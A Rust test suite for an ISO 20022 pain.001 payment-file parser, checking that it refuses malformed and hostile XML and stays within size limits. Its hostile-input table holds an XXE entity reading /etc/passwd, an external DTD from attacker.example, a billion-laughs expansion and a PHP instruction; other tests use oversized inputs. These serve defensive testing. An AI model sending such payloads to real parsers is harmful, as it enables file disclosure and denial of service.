use proptest::prelude::*;
use testkit::pain001;

use super::*;

fn document(version: &str) -> String {
    let transfers = [
        (1250, "Bakery & Söhne", "NL91ABNA0417164300", "Bread"),
        (100, "Shop", "DE89370400440532013000", "Milk"),
    ];
    pain001(version, "NL21VSTB2878231391", "2026-11-27", &transfers)
}

/// The document with one place changed.
#[track_caller]
fn changed(version: &str, from: &str, to: &str) -> String {
    let document = document(version);
    assert!(document.contains(from), "{from}");
    document.replacen(from, to, 1)
}

fn read(document: &str) -> Result<Initiation, String> {
    Initiation::read(document.as_bytes()).map_err(|error| error.to_string())
}

#[test]
fn both_versions_are_read() {
    for version in ["03", "09"] {
        let initiation = read(&document(version)).unwrap();
        assert_eq!(initiation.transactions.text, "2");
        assert_eq!(initiation.control_sum.unwrap().text, "13.50");
        let [payment] = initiation.payments.as_slice() else { panic!("one PmtInf") };
        assert_eq!(payment.debtor.path, "CstmrCdtTrfInitn/PmtInf[1]/DbtrAcct/Id/IBAN");
        assert_eq!((payment.execution_date.text.as_str(), payment.is_moment), ("2026-11-27", false));
        let [first, second] = payment.transfers.as_slice() else { panic!("two transfers") };
        assert_eq!(first.creditor_name.text, "Bakery & Söhne");
        assert_eq!(first.creditor_agent.as_ref().unwrap().text, "ABNANL2A");
        assert_eq!(second.amount.path, "CstmrCdtTrfInitn/PmtInf[1]/CdtTrfTxInf[2]/Amt/InstdAmt");
        assert_eq!((second.amount.text.as_str(), second.currency.as_str()), ("1.00", "EUR"));
    }
    let moment = read(&changed("09", "<Dt>2026-11-27</Dt>", "<DtTm>2026-11-27T09:00:00Z</DtTm>")).unwrap();
    assert!(moment.payments[0].is_moment);
}

#[test]
fn harmless_spellings_are_read_as_xml_has_them() {
    let plain = read(&document("03")).unwrap();
    let document = document("03");
    let prefixed = document
        .replace("xmlns=", "xmlns:p=")
        .replace("</", "\u{1}")
        .replace('<', "<p:")
        .replace('\u{1}', "</p:")
        .replace("<p:?xml", "<?xml");
    for same in [
        format!("\u{feff}{document}"),
        document.split_once("?>").unwrap().1.to_owned(),
        document.replace("encoding=\"UTF-8\"", "encoding='utf-8' standalone='yes'"),
        document.replace('\n', "\r\n"),
        document.replace("<MsgId>", "<!-- a comment & its <signs> --><MsgId>"),
        document.replace(
            "<Amt><InstdAmt Ccy=\"EUR\">12.50",
            "<Amt><InstdAmt Ccy='EUR'>1<!-- -->2.5<![CDATA[0]]>",
        ),
        document.replace("<Amt><InstdAmt Ccy=\"EUR\">12.50", "<Amt><InstdAmt Ccy=\"&#x45;UR\">&#49;2.50"),
        document.replace("<MsgId>message-1", "<MsgId>\n   message-1\t"),
        document.replace("<InitgPty><Nm>A. Payer</Nm></InitgPty>", "<InitgPty/>"),
        document.replace(
            "<Document ",
            "<Document xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"a b\" ",
        ),
        prefixed,
    ] {
        assert_eq!(read(&same).as_ref(), Ok(&plain), "{same}");
    }
}

/// What is put in place of the first `from`, and what is said.
type Row = (&'static str, &'static str, &'static str);

const HEADER: &str = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>";

const HOSTILE: &[Row] = &[
    // Document types, and every entity with them.
    (
        "<Document ",
        "<!DOCTYPE Document [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><Document ",
        "line 2, column 1: a document type declaration is not taken; leave it out",
    ),
    (
        "<Document ",
        "<!DOCTYPE Document SYSTEM \"http://attacker.example/a.dtd\"><Document ",
        "line 2, column 1: a document type declaration is not taken; leave it out",
    ),
    (
        "<Document ",
        "<!DOCTYPE l [<!ENTITY l \"lol\"><!ENTITY m \"&l;&l;&l;&l;&l;&l;&l;&l;\"><!ENTITY n \"&m;&m;&m;&m;&m;&m;&m;&m;\">]><Document ",
        "line 2, column 1: a document type declaration is not taken; leave it out",
    ),
    (
        "<Document ",
        "<!doctype Document><Document ",
        "line 2, column 1: a document type declaration is not taken; leave it out",
    ),
    (
        "Bread",
        "&a;",
        "line 29, column 24: the entity &a; is not known; there are amp, lt, gt, apos, quot and numbers",
    ),
    (
        "Bread",
        "&nbsp;",
        "line 29, column 24: the entity &nbsp; is not known; there are amp, lt, gt, apos, quot and numbers",
    ),
    (
        "Bread",
        "&#0;",
        "line 29, column 24: invalid character reference: 0x0 character is not permitted in XML",
    ),
    ("Bread", "&#1;", "line 29, column 24: U+0001 is no character of XML"),
    (
        "Bread",
        "&#xD800;",
        "line 29, column 24: invalid character reference: `55296` is not a valid codepoint",
    ),
    ("Bread", "&#xFFFE;", "line 29, column 24: U+FFFE is no character of XML"),
    ("Bread", "\u{1}", "line 29, column 24: U+0001 is no character of XML"),
    (
        "Bread",
        "a & b",
        "line 29, column 26: ill-formed document: entity or character reference not closed: `;` not found before end of input",
    ),
    ("Bread", "a ]]> b", "line 29, column 24: ]]> stands outside of a CDATA section; write ]]&gt;"),
    (
        "Ccy=\"EUR\"",
        "Ccy=\"&a;\"",
        "line 25, column 14: an attribute of InstdAmt: at 1..2: unrecognized entity `a`",
    ),
    ("Ccy=\"EUR\"", "Ccy=\"E<R\"", "line 25, column 14: an attribute of InstdAmt holds U+003C"),
    // Encodings.
    (
        "UTF-8",
        "ISO-8859-1",
        "line 1, column 1: the encoding \"ISO-8859-1\" is not taken; send the document in UTF-8",
    ),
    ("UTF-8", "UTF-16", "line 1, column 1: the encoding \"UTF-16\" is not taken; send the document in UTF-8"),
    ("UTF-8", "UTF-7", "line 1, column 1: the encoding \"UTF-7\" is not taken; send the document in UTF-8"),
    ("version=\"1.0\"", "version=\"1.1\"", "line 1, column 1: XML 1.1 is not taken; send XML 1.0"),
    (
        HEADER,
        "\n<?xml version=\"1.0\"?>",
        "line 2, column 1: an XML declaration stands at the very beginning and nowhere else",
    ),
    (
        "<CstmrCdtTrfInitn>",
        "<?xml version=\"1.0\"?><CstmrCdtTrfInitn>",
        "line 3, column 3: an XML declaration stands at the very beginning and nowhere else",
    ),
    (
        "<CstmrCdtTrfInitn>",
        "<?php phpinfo(); ?><CstmrCdtTrfInitn>",
        "line 3, column 3: a processing instruction is not taken; leave it out",
    ),
    // Namespaces.
    (
        ".001.001.03",
        ".001.001.11",
        "line 2, column 1: the element Document is in the namespace \"urn:iso:std:iso:20022:tech:xsd:pain.001.001.11\"; it must be in urn:iso:std:iso:20022:tech:xsd:pain.001.001.03 or urn:iso:std:iso:20022:tech:xsd:pain.001.001.09",
    ),
    (
        " xmlns=\"urn:iso:std:iso:20022:tech:xsd:pain.001.001.03\"",
        "",
        "line 2, column 1: the element Document is in no namespace; it must be in urn:iso:std:iso:20022:tech:xsd:pain.001.001.03 or urn:iso:std:iso:20022:tech:xsd:pain.001.001.09",
    ),
    (
        "<MsgId>message-1</MsgId>",
        "<MsgId xmlns=\"\">message-1</MsgId>",
        "line 5, column 7: the element MsgId is in no namespace; it must be in urn:iso:std:iso:20022:tech:xsd:pain.001.001.03",
    ),
    (
        "<MsgId>message-1</MsgId>",
        "<MsgId xmlns=\"urn:iso:std:iso:20022:tech:xsd:pain.001.001.09\">message-1</MsgId>",
        "line 5, column 7: the element MsgId is in the namespace \"urn:iso:std:iso:20022:tech:xsd:pain.001.001.09\"; it must be in urn:iso:std:iso:20022:tech:xsd:pain.001.001.03",
    ),
    (
        "<MsgId>message-1</MsgId>",
        "<a:MsgId>message-1</a:MsgId>",
        "line 5, column 7: the prefix a is bound to no namespace",
    ),
    // What is no XML.
    ("</Document>", "", "the document ends within the element Document"),
    (
        "</Document>",
        "</Document><Document/>",
        "line 41, column 12: there is something after the end of the document",
    ),
    ("</Document>", "</Document>x", "line 41, column 12: there is text outside of the document"),
    (
        "</MsgId>",
        "</MsgID>",
        "line 5, column 23: ill-formed document: expected `</MsgId>`, but `</MsgID>` was found",
    ),
    (
        "<MsgId>",
        "<MsgId a='1' a='2'>",
        "line 5, column 7: the tag MsgId: position 12: duplicated attribute, previous declaration at position 6",
    ),
    (
        "<MsgId>",
        "<MsgId a>",
        "line 5, column 7: the tag MsgId: position 7: attribute key must be directly followed by `=` or space",
    ),
    (
        "<MsgId>",
        "<Msg Id>",
        "line 5, column 7: the tag Msg: position 6: attribute key must be directly followed by `=` or space",
    ),
    ("<MsgId>", "<Mé>1</Mé><MsgId>", "line 5, column 7: \"Mé\" is no name of an element"),
    ("<MsgId>", "x<MsgId>", "line 10, column 5: the element GrpHdr holds a text beside elements"),
    (
        "<MsgId>",
        "<!-- a -- b --><MsgId>",
        "line 5, column 14: ill-formed document: forbidden string `--` was found in a comment",
    ),
    (
        "<MsgId>",
        "<!-- a <MsgId>",
        "line 5, column 7: syntax error: comment not closed: `-->` not found before end of input",
    ),
    (
        "<MsgId>",
        "<![CDATA[ <MsgId>",
        "line 5, column 7: syntax error: CDATA not closed: `]]>` not found before end of input",
    ),
    // What a payment is made of.
    (
        "<GrpHdr>",
        "<GrpHeader>",
        "line 10, column 5: ill-formed document: expected `</GrpHeader>`, but `</GrpHdr>` was found",
    ),
    ("<MsgId>message-1</MsgId>", "", "CstmrCdtTrfInitn/GrpHdr/MsgId is missing"),
    (
        "<MsgId>message-1</MsgId>",
        "<MsgId>a</MsgId><MsgId>b</MsgId>",
        "CstmrCdtTrfInitn/GrpHdr/MsgId occurs more than once; send it once",
    ),
    (
        "<MsgId>message-1</MsgId>",
        "<MsgId><Id>1</Id></MsgId>",
        "CstmrCdtTrfInitn/GrpHdr/MsgId holds the element Id; expected a text",
    ),
    ("<NbOfTxs>2</NbOfTxs>", "", "CstmrCdtTrfInitn/GrpHdr/NbOfTxs is missing"),
    ("<PmtInfId>payment-1</PmtInfId>", "", "CstmrCdtTrfInitn/PmtInf[1]/PmtInfId is missing"),
    ("<PmtMtd>TRF</PmtMtd>", "", "CstmrCdtTrfInitn/PmtInf[1]/PmtMtd is missing"),
    ("<ReqdExctnDt>2026-11-27</ReqdExctnDt>", "", "CstmrCdtTrfInitn/PmtInf[1]/ReqdExctnDt is missing"),
    (
        "<ReqdExctnDt>2026-11-27",
        "<ReqdExctnDt><Dt>2026-11-27</Dt>",
        "CstmrCdtTrfInitn/PmtInf[1]/ReqdExctnDt holds the element Dt; expected a text",
    ),
    (
        "<IBAN>NL21VSTB2878231391</IBAN>",
        "<Othr><Id>1</Id></Othr>",
        "CstmrCdtTrfInitn/PmtInf[1]/DbtrAcct/Id/IBAN is missing",
    ),
    (
        "<DbtrAcct>",
        "<DbtrAcct/><DbtrAcct>",
        "CstmrCdtTrfInitn/PmtInf[1]/DbtrAcct occurs more than once; send it once",
    ),
    ("<Dbtr>", "<Dbtr/><Dbtr>", "CstmrCdtTrfInitn/PmtInf[1]/Dbtr occurs more than once; send it once"),
    (
        "<Dbtr><Nm>",
        "<Dbtr><Nm>Somebody</Nm><Nm>",
        "CstmrCdtTrfInitn/PmtInf[1]/Dbtr/Nm occurs more than once; send it once",
    ),
    (
        "<DbtrAgt>",
        "<DbtrAgt/><DbtrAgt>",
        "CstmrCdtTrfInitn/PmtInf[1]/DbtrAgt occurs more than once; send it once",
    ),
    (
        "<PmtId>",
        "<Purp><Cd>SALA</Cd></Purp><Purp><Cd>RENT</Cd></Purp><PmtId>",
        "CstmrCdtTrfInitn/PmtInf[1]/CdtTrfTxInf[1]/Purp occurs more than once; send it once",
    ),
    (
        "</GrpHdr>",
        "<InitgPty/><InitgPty/></GrpHdr>",
        "CstmrCdtTrfInitn/GrpHdr/InitgPty occurs more than once; send it once",
    ),
    (
        "<CstmrCdtTrfInitn>",
        "<CstmrCdtTrfInitn/><CstmrCdtTrfInitn>",
        "CstmrCdtTrfInitn occurs more than once; send it once",
    ),
    (
        " Ccy=\"EUR\"",
        "",
        "CstmrCdtTrfInitn/PmtInf[1]/CdtTrfTxInf[1]/Amt/InstdAmt has no attribute Ccy; send the currency, for example EUR",
    ),
    (
        "<InstdAmt Ccy=\"EUR\">12.50</InstdAmt>",
        "<EqvtAmt><Amt Ccy=\"EUR\">1</Amt></EqvtAmt>",
        "CstmrCdtTrfInitn/PmtInf[1]/CdtTrfTxInf[1]/Amt/InstdAmt is missing",
    ),
    (
        "<EndToEndId>e2e-2</EndToEndId>",
        "",
        "CstmrCdtTrfInitn/PmtInf[1]/CdtTrfTxInf[2]/PmtId/EndToEndId is missing",
    ),
    ("<Cdtr><Nm>Shop</Nm></Cdtr>", "<Cdtr/>", "CstmrCdtTrfInitn/PmtInf[1]/CdtTrfTxInf[2]/Cdtr/Nm is missing"),
    (
        "<Ustrd>Milk</Ustrd>",
        "<Ustrd>Milk</Ustrd><Ustrd>Eggs</Ustrd>",
        "CstmrCdtTrfInitn/PmtInf[1]/CdtTrfTxInf[2]/RmtInf/Ustrd occurs more than once; send it once",
    ),
];

#[test]
fn what_is_hostile_or_wrong_is_refused() {
    for (from, to, said) in HOSTILE {
        let error = read(&changed("03", from, to)).expect_err(to);
        assert_eq!(error, *said, "{to}");
    }
    let both = changed("09", "<Dt>2026-11-27</Dt>", "<Dt>2026-11-27</Dt><DtTm>2026-11-27T09:00:00Z</DtTm>");
    assert_eq!(
        read(&both).unwrap_err(),
        "CstmrCdtTrfInitn/PmtInf[1]/ReqdExctnDt holds both Dt and DtTm; send one of them"
    );
    let none = changed("09", "<Dt>2026-11-27</Dt>", "2026-11-27");
    assert_eq!(read(&none).unwrap_err(), "CstmrCdtTrfInitn/PmtInf[1]/ReqdExctnDt/Dt is missing");
    let root = r#"<Other xmlns="urn:iso:std:iso:20022:tech:xsd:pain.001.001.03"/>"#;
    assert_eq!(read(root).unwrap_err(), "the document begins with Other; expected Document");
}

#[test]
fn encodings_other_than_utf_8_are_refused() {
    let document = document("03");
    let wide = |octets: fn(u16) -> [u8; 2]| document.encode_utf16().flat_map(octets).collect::<Vec<u8>>();
    let (little, big) = (wide(u16::to_le_bytes), wide(u16::to_be_bytes));
    let utf_16 = "the document is in UTF-16 or UTF-32; send it in UTF-8";
    for (octets, said) in [
        (little.clone(), utf_16),
        (big.clone(), utf_16),
        ([vec![0xff, 0xfe], little].concat(), utf_16),
        ([vec![0xfe, 0xff], big].concat(), utf_16),
        (vec![0, 0, 0xfe, 0xff, 0, 0, 0, b'<'], utf_16),
        (
            document.replace('ö', "@").bytes().map(|b| if b == b'@' { 0xf6 } else { b }).collect(),
            "octet 1055 is no UTF-8; send the document in UTF-8",
        ),
        (b"+ADw-a/+AD4-".to_vec(), "line 1, column 1: there is text outside of the document"),
        (Vec::new(), "there is no document; send one"),
        (b" \n ".to_vec(), "there is no document; send one"),
        (b"<!-- a -->".to_vec(), "there is no element; send a document"),
        (b"{\"payments\": []}".to_vec(), "line 1, column 1: there is text outside of the document"),
    ] {
        assert_eq!(Initiation::read(&octets).unwrap_err().to_string(), said);
    }
}

#[test]
fn what_is_large_is_refused_before_it_takes_memory_or_time() {
    let namespace = "urn:iso:std:iso:20022:tech:xsd:pain.001.001.03";
    let begin = format!("<Document xmlns=\"{namespace}\">");
    let many = |text: &str, times: usize| text.repeat(times);
    for (document, said) in [
        (many("<a>", 300_000), "line 1, column 1: the element a is in no namespace"),
        (format!("{begin}{}", many("<a>", 300_000)), "elements are nested deeper than 20 levels"),
        (format!("{begin}{}", many("<a/>", 250_000)), "there are more than 20000 elements"),
        (format!("{begin}<a>{}", many("x", 1_000_000)), "the text of a is longer than 4096 octets"),
        (format!("{begin}<a>{}", many("&amp;", 200_000)), "the text of a is longer than 4096 octets"),
        (
            format!("{begin}<a>{}", many("<![CDATA[xxxx]]>", 60_000)),
            "the text of a is longer than 4096 octets",
        ),
        (format!("{begin}<a {}>", many("b='1' ", 150_000)), "a tag is longer than 2048 octets"),
        (
            format!("{begin}<a {}>", (0..60_000).map(|n| format!("xmlns:n{n}='u' ")).collect::<String>()),
            "line 1, column 66: there are more than 128 declarations of namespaces",
        ),
        (format!("{begin}<a{}>", many("a", 1_000_000)), "a tag is longer than 2048 octets"),
        (format!("{begin}<a b='{}'>", many("&lt;", 200_000)), "a tag is longer than 2048 octets"),
    ] {
        let error = read(&document).unwrap_err();
        assert!(error.contains(said), "{error}");
    }
}

proptest! {
    #[test]
    fn no_octets_panic(octets in prop::collection::vec(any::<u8>(), 0..200)) {
        let _ = Initiation::read(&octets);
    }

    #[test]
    fn no_change_of_a_document_panics(
        version in prop::sample::select(vec!["03", "09"]),
        at in any::<prop::sample::Index>(),
        length in 0_usize..40,
        put in "[<>&;/!?'\"= a-zA-Z0-9\\[\\]-]{0,12}|\\PC{0,6}",
    ) {
        let document = document(version);
        let start = document.floor_char_boundary(at.index(document.len()));
        let end = document.ceil_char_boundary((start + length).min(document.len()));
        let mut changed = document.clone();
        changed.replace_range(start..end, &put);
        if let Ok(initiation) = Initiation::read(changed.as_bytes()) {
            prop_assert!(!initiation.payments.is_empty() && !initiation.payments[0].transfers.is_empty());
        }
    }
}

#[test]
fn what_may_repeat_where_nobody_reads_it_is_skipped() {
    for (from, to) in [
        ("<Dbtr>", "<Dbtr><PstlAdr><AdrLine>Street 1</AdrLine><AdrLine>Town</AdrLine></PstlAdr>"),
        ("<GrpHdr>", "<GrpHdr><Authstn><Cd>AUTH</Cd></Authstn><Authstn><Cd>FDET</Cd></Authstn>"),
        ("<PmtId>", "<RgltryRptg><Dtls/><Dtls/></RgltryRptg><RgltryRptg/><PmtId>"),
        ("<PmtInf>", "<SplmtryData><Envlp><Any/><Any/></Envlp></SplmtryData><SplmtryData/><PmtInf>"),
    ] {
        for version in ["03", "09"] {
            read(&changed(version, from, to)).unwrap();
        }
    }
}
